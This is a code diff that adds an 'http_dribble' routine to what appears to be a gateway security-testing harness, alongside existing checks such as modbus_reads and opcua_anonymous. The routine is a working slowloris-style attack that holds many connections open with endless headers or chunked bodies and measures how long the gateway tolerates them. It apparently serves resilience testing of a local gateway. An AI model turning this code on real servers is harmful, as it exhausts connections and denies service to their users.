@@ -587,6 +587,52 @@ async def opcua_anonymous(args: Args) -> Report:
     return {"outcomes": dict(outcomes), "notified": notified, "sessions": len(clients)}
 
 
+async def http_dribble(args: Args) -> Report:
+    """*count* connections that each dribble a request a few bytes every *every_s*: its
+    head (*mode* "head": header lines that never end) or a chunked body that never ends
+    (*mode* "chunked", to *path*); how long the gateway let the longest run."""
+    path, mode = args.get("path", "/api/v1/parameters/check"), args.get("mode", "head")
+    started = time.monotonic()
+    limit_s = args.get("hold_s", 12.0)
+
+    async def one() -> tuple[str, float]:
+        try:
+            reader, writer = await _open(args["port"], args.get("source", "127.0.0.1"))
+        except OSError:
+            return "connect failed", 0.0
+        if mode == "head":
+            writer.write(f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n".encode())
+        else:
+            writer.write(
+                f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
+                "\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
+            )
+        ending = "held"
+        n = 0
+        while time.monotonic() - started < limit_s:
+            n += 1
+            piece = f"X-Pad-{n}: a\r\n" if mode == "head" else "1\r\n \r\n"
+            try:
+                writer.write(piece.encode())
+                await writer.drain()
+                data = await asyncio.wait_for(reader.read(1024), args.get("every_s", 0.5))
+            except TimeoutError:
+                continue
+            except ConnectionError:
+                ending = "reset"
+                break
+            ending = "closed" if not data else str(data.split(b" ", 2)[1:2])
+            break
+        writer.close()
+        return ending, time.monotonic() - started
+
+    ends = await asyncio.gather(*(one() for _ in range(args.get("count", 10))))
+    return {
+        "endings": dict(Counter(end for end, _ in ends)),
+        "longest_s": max(at for _, at in ends),
+    }
+
+
 ATTACKS: dict[str, Callable[[Args], Coroutine[Any, Any, Report]]] = {
     "logins": logins,
     "slow_bodies": slow_bodies,
@@ -603,6 +649,7 @@ ATTACKS: dict[str, Callable[[Args], Coroutine[Any, Any, Report]]] = {
     "modbus_reads": modbus_reads,
     "mqtt_flap": mqtt_flap,
     "opcua_anonymous": opcua_anonymous,
+    "http_dribble": http_dribble,
 }
 
 
